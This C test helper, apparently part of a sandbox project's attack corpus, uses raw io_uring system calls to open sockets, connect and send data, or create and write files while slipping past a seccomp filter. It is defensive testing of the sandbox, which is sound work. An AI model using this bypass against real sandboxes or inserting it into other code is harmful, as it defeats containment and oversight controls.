// An io_uring attack on the sandbox, for test/shell/iouring.test.ts and the
// attack corpus: system calls the seccomp filter does not see one by one,
// because io_uring performs them inside the kernel on the program's behalf.
// Raw system calls only (no liburing), so that gcc and the C library are all
// it needs.
//
//   io_uring setup               report what io_uring_setup returns ("ok" or its error)
//   io_uring socket PATH MSG     IORING_OP_SOCKET (Linux 5.19+) for an AF_UNIX socket,
//                                then connect to PATH and send MSG
//   io_uring write PATH TEXT     IORING_OP_OPENAT (O_WRONLY|O_CREAT|O_TRUNC) and
//                                IORING_OP_WRITE of TEXT into PATH
//
// Exit status 0 when the attack did what it set out to do; otherwise 1, with
// the operating system's error message on stderr ("io_uring_setup: Operation
// not permitted" when the filter refuses io_uring).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

// Opcode numbers are kernel ABI; spelled out so that older headers work too.
enum { OP_CONNECT = 16, OP_OPENAT = 18, OP_WRITE = 23, OP_SOCKET = 45 };

struct ring {
  int fd;
  unsigned *sq_head, *sq_tail, *sq_mask, *sq_array;
  unsigned *cq_head, *cq_tail, *cq_mask;
  struct io_uring_sqe *sqes;
  struct io_uring_cqe *cqes;
};

static void fail(const char *what, int err) {
  fprintf(stderr, "%s: %s\n", what, strerror(err));
  exit(1);
}

static int ring_setup(struct ring *r) {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  long fd = syscall(__NR_io_uring_setup, 4, &p);
  if (fd < 0) return -errno;
  r->fd = (int)fd;
  size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
  char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
  char *cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
  void *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
  if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) fail("mmap of the io_uring rings", errno);
  r->sq_head = (unsigned *)(sq + p.sq_off.head);
  r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
  r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
  r->sq_array = (unsigned *)(sq + p.sq_off.array);
  r->cq_head = (unsigned *)(cq + p.cq_off.head);
  r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
  r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
  r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
  r->sqes = sqes;
  return 0;
}

/** Submits one prepared entry and waits for its completion; returns the completion's result (-errno on failure). */
static int ring_run(struct ring *r, const struct io_uring_sqe *entry, const char *what) {
  unsigned tail = *r->sq_tail;
  unsigned index = tail & *r->sq_mask;
  r->sqes[index] = *entry;
  r->sq_array[index] = index;
  __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
  long n = syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
  if (n < 0) fail("io_uring_enter", errno);
  unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
  if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) {
    fprintf(stderr, "%s: no completion\n", what);
    exit(1);
  }
  int res = r->cqes[head & *r->cq_mask].res;
  __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
  return res;
}

int main(int argc, char **argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: %s setup | socket PATH MESSAGE | write PATH TEXT\n", argv[0]);
    return 2;
  }
  struct ring r;
  int err = ring_setup(&r);
  if (strcmp(argv[1], "setup") == 0) {
    if (err == 0) {
      printf("io_uring_setup: ok\n");
      return 0;
    }
    printf("io_uring_setup: errno %d (%s)\n", -err, strerror(-err));
    return 1;
  }
  if (err < 0) fail("io_uring_setup", -err);
  struct io_uring_sqe e;
  if (strcmp(argv[1], "socket") == 0 && argc == 4) {
    memset(&e, 0, sizeof e);
    e.opcode = OP_SOCKET;
    e.fd = AF_UNIX;
    e.off = SOCK_STREAM;
    int s = ring_run(&r, &e, "IORING_OP_SOCKET");
    if (s < 0) fail("IORING_OP_SOCKET", -s);
    struct sockaddr_un addr;
    memset(&addr, 0, sizeof addr);
    addr.sun_family = AF_UNIX;
    strncpy(addr.sun_path, argv[2], sizeof addr.sun_path - 1);
    memset(&e, 0, sizeof e);
    e.opcode = OP_CONNECT;
    e.fd = s;
    e.addr = (unsigned long)&addr;
    e.off = sizeof addr;
    int c = ring_run(&r, &e, "IORING_OP_CONNECT");
    if (c < 0) fail("IORING_OP_CONNECT", -c);
    if (write(s, argv[3], strlen(argv[3])) < 0) fail("write to the socket", errno);
    printf("connected to %s through io_uring\n", argv[2]);
    return 0;
  }
  if (strcmp(argv[1], "write") == 0 && argc == 4) {
    memset(&e, 0, sizeof e);
    e.opcode = OP_OPENAT;
    e.fd = AT_FDCWD;
    e.addr = (unsigned long)argv[2];
    e.open_flags = O_WRONLY | O_CREAT | O_TRUNC;
    e.len = 0644;
    int f = ring_run(&r, &e, "IORING_OP_OPENAT");
    if (f < 0) fail("IORING_OP_OPENAT", -f);
    memset(&e, 0, sizeof e);
    e.opcode = OP_WRITE;
    e.fd = f;
    e.addr = (unsigned long)argv[3];
    e.len = strlen(argv[3]);
    e.off = 0;
    int w = ring_run(&r, &e, "IORING_OP_WRITE");
    if (w < 0) fail("IORING_OP_WRITE", -w);
    printf("wrote %d bytes to %s through io_uring\n", w, argv[2]);
    return 0;
  }
  fprintf(stderr, "usage: %s setup | socket PATH MESSAGE | write PATH TEXT\n", argv[0]);
  return 2;
}
